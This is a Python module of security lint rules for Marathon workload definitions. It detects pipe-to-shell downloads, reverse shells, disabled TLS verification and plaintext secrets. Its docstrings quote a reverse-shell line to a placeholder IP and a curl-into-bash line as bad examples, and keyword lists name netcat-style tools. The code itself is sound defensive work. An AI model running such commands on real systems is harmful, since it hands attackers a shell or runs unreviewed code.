"""Rules on the commands that a workload runs: its own, and those of its health checks."""

from __future__ import annotations

import re
from bisect import bisect_right
from functools import lru_cache
from typing import TYPE_CHECKING

from policylint.finding import Problem
from policylint.rule import rule
from policylint.workload import Command, Workload

if TYPE_CHECKING:
    from collections.abc import Iterable, Iterator
    from typing import Protocol, TypeVar

    from policylint.dockerfile.script import Script
    from policylint.finding import Problems
    from policylint.model import Value
    from policylint.source import Span
    from policylint.workload import EnvVar, HealthCheck

    class _Placed(Protocol):
        @property
        def span(self) -> Span: ...

    P = TypeVar("P", bound=_Placed)

# Reading a script costs: only one in which one of these stands, in small letters, is read.
_DOWNLOADS = ("curl", "wget", "fetch")
_HANDED_OVER = (
    "/dev/tcp/", "/dev/udp/", "nc ", "ncat", "netcat", "nc.", "socat", "telnet", "openssl",
    "mkfifo", "base64", "sock", "/inet/tcp", "net.connect",
)  # fmt: skip
_TRUSTING = (
    "curl",
    "no-check-cert",
    "trusted-host",
    "strict-ssl",
    "ssl",
    "tls",
    "cert",
    "verify",
    "unauthorized",
)
_SECRETS = (
    "pass", "pwd", "token", "secret", "key", "authorization", "credential", "curl", "http",
    "mysql", "mariadb", "redis-cli", "mongo", "ldap", "sqlcmd", "ab ",
)  # fmt: skip
_TRUSTING_NAMES = ("SSL", "TLS", "CERT", "VERIFY", "TRUSTED_HOST", "UNAUTHORIZED")

_LOOPBACK = r"localhost|127\.[\d.]+|0\.0\.0\.0|\[::1\]"
# How a health check names the task that it is about.
_OWN_HOST = r"\$\{?(?:HOST|HOSTNAME|MESOS_CONTAINER_IP|LIBPROCESS_IP)\}?"
_SHELL_OPTION = r"-[a-z]*c"


@rule(
    on=Command,
    severity="high",
    family="artifacts",
    refs="CWE-494 ATTACK:T1059.004 ATTACK:T1105",
)
def download_piped_to_shell(command: Command) -> Problems:
    """Download piped into an interpreter.

    What runs is whatever the server sends at this start: nobody has reviewed it,
    and a broken connection runs half of it.

    Instead, put the script into the image, or fetch it, compare its checksum and run it then.

    Bad (marathon):
        {"id": "/web", "cmd": "curl -s https://get.example.com/install.sh | bash"}

    Good (marathon):
        {"id": "/web", "cmd": "/opt/web/run"}
    """
    line = _read(command, _DOWNLOADS)
    if line is None:
        return
    from policylint.detect.scripts import downloads_run

    for value, deed in line.placed(downloads_run(line.script)):
        yield Problem(value, f"{deed.what}, unseen and at every start")


@rule(
    on=Command,
    severity="critical",
    family="artifacts",
    refs="NIST:4.4.2 NIST:4.4.5 CWE-506 ATTACK:T1059.004 ATTACK:T1095",
)
def reverse_shell(command: Command) -> Problems:
    """Command opens a reverse shell.

    Whoever is at the other end of the connection gets a shell in the task. Nobody
    writes this by mistake: somebody has planted a back door.

    Instead, refuse the definition and find out who wrote it.

    Bad (marathon):
        {"id": "/web", "cmd": "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"}

    Good (marathon):
        {"id": "/web", "cmd": "/opt/web/run", "healthChecks": [{"protocol": "COMMAND",
          "command": {"value": "bash -c \\"</dev/tcp/$HOST/$PORT0\\""}}]}
    """
    line = _read(command, _HANDED_OVER)
    if line is None:
        return
    from policylint.detect.scripts import back_doors

    for value, deed in line.placed(back_doors(line.script)):
        yield Problem(value, f"{deed.what}: this is a back door")


@rule(
    on=Workload,
    severity="medium",
    family="artifacts",
    refs="CWE-295 ATTACK:T1557",
)
def tls_verification_disabled(workload: Workload) -> Problems:
    """Verification of TLS certificates switched off.

    Then anybody on the way can pose as the server, read what is sent and answer
    in its place.

    Instead, name the authority that signed the certificate: `--cacert`,
    `NODE_EXTRA_CA_CERTS`, `SSL_CERT_FILE`.

    Bad (marathon):
        {"id": "/web", "cmd": "run", "env": {"NODE_TLS_REJECT_UNAUTHORIZED": "0"}}

    Good (marathon):
        {"id": "/web", "cmd": "run", "env": {"NODE_EXTRA_CA_CERTS": "/etc/ssl/own/ca.pem"}}
    """
    for container in workload.containers:
        for variable in container.env:
            yield from _trusting_variable(variable)
        for command in (container.command, container.entrypoint):
            yield from _trusting_options(command)
        yield from _trusting_checks(container.health_checks)
    yield from _trusting_checks(workload.health_checks)


@rule(
    on=Command,
    severity="high",
    family="secrets",
    confidence="medium",
    refs="NIST:4.1.4 CWE-214 CWE-798 ATTACK:T1552.001",
    unless=("private-key-inline", "provider-credential", "default-credential"),
)
def secret_on_command_line(command: Command) -> Problems:
    """Secret on a command line.

    Besides the scheduler's API and the repository, every process on the agent
    reads it in the list of processes.

    Instead, let the program read it from a file or from a variable that references a secret.

    Bad (marathon):
        {"id": "/web", "cmd": "app --password s3cretvalue"}

    Good (marathon):
        {"id": "/web", "cmd": "app --password-file secrets/db"}
    """
    line = _read(command, _SECRETS)
    if line is None:
        return
    from policylint.detect.scripts import secrets_handed
    from policylint.detect.secret_words import is_literal_secret

    literal = (
        handed
        for handed in secrets_handed(line.script)
        if handed.value[:1] != "@" and is_literal_secret(handed.value, handed.name)
    )
    for value, handed in line.placed(literal):
        yield Problem(
            value,
            f"{handed.name} has a secret in plain text, which the list of processes shows",
            secret=True,
        )


class Line:
    """A command as a script, and the way back to the strings that it stands in."""

    __slots__ = ("_starts", "_values", "script")

    def __init__(self, script: Script, values: tuple[Value[str], ...], starts: list[int]) -> None:
        self.script = script
        self._values = values
        self._starts = starts

    def placed(self, found: Iterable[P]) -> Iterator[tuple[Value[str], P]]:
        """Each thing found with the string it stands in, the first of every string."""
        seen: set[int] = set()
        for each in found:
            number = max(bisect_right(self._starts, each.span.start) - 1, 0)
            if number not in seen:
                seen.add(number)
                yield self._values[number], each


def read(command: Command) -> Line:
    """The script that a command amounts to."""
    if command.text is not None:
        text = command.text.value if command.text.is_known else ""
        return Line(_script(text), (command.text,), [0])
    texts = tuple(arg.value if arg.is_known else None for arg in command.args)
    starts = [0]
    for text_or_none in texts[:-1]:
        starts.append(starts[-1] + len(text_or_none or "") + 1)
    return Line(_script_of_list(texts), command.args, starts)


def read_for_secrets(command: Command) -> Line | None:
    """The script of a command; None when nothing in it looks like a secret."""
    return _read(command, _SECRETS)


def _read(command: Command | None, likely: tuple[str, ...]) -> Line | None:
    if command is None:
        return None
    values = (command.text,) if command.text is not None else command.args
    text = " ".join(value.value for value in values if value.is_known).lower()
    return read(command) if any(word in text for word in likely) else None


@lru_cache(maxsize=16)
def _script(text: str) -> Script:
    from policylint.dockerfile.shell import parse

    return parse(text)


@lru_cache(maxsize=16)
def _script_of_list(texts: tuple[str | None, ...]) -> Script:
    """The script of a list of arguments, of which None are unknown."""
    from policylint.dockerfile.excerpt import Stretch
    from policylint.dockerfile.script import ShellWord
    from policylint.dockerfile.shell import command_line
    from policylint.source import Span

    words = []
    first = texts[0] or ""
    if first.startswith("-"):  # for the program of the image: a shell, if it takes `-c`
        program = "sh" if re.fullmatch(_SHELL_OPTION, first) else "program"
        words.append(
            ShellWord(program, program, True, Stretch(program), 0, len(program), span=Span(0, 0))
        )
    start = 0
    for text in texts:
        value = text or ""
        span = Span(start, start + len(value))
        words.append(
            ShellWord(
                value,
                value,
                text is not None,
                Stretch(value, start),
                0,
                len(value),
                span=span,
            )
        )
        start = span.end + 1
    return command_line(words)


def _trusting_variable(variable: EnvVar) -> Iterator[Problem]:
    value = variable.value
    if value is None or not value.is_known or not _is_about_tls(variable.name):
        return
    from policylint.detect.tls import is_switched_off

    if is_switched_off(variable.name, value.value):
        yield Problem(value, f"{variable.name} makes programs accept any certificate")


def _is_about_tls(name: str) -> bool:
    name = name.upper()
    return any(word in name for word in _TRUSTING_NAMES)


def _trusting_checks(checks: tuple[HealthCheck, ...]) -> Iterator[Problem]:
    for check in checks:
        yield from _trusting_options(check.command, is_check=True)


def _trusting_options(command: Command | None, *, is_check: bool = False) -> Iterator[Problem]:
    line = _read(command, _TRUSTING)
    if line is None:
        return
    from policylint.detect.scripts import insecure_switches

    exposed = (
        deed
        for deed in insecure_switches(line.script)
        if not (deed.hosts and all(_is_near(host, is_check=is_check) for host in deed.hosts))
    )
    for value, deed in line.placed(exposed):
        yield Problem(value, f"{deed.what} accepts any certificate, whoever answers")


def _is_near(host: str, *, is_check: bool) -> bool:
    """Whether nobody stands between a program and a host: it is the program's own."""
    return bool(re.fullmatch(_LOOPBACK, host) or (is_check and re.fullmatch(_OWN_HOST, host)))
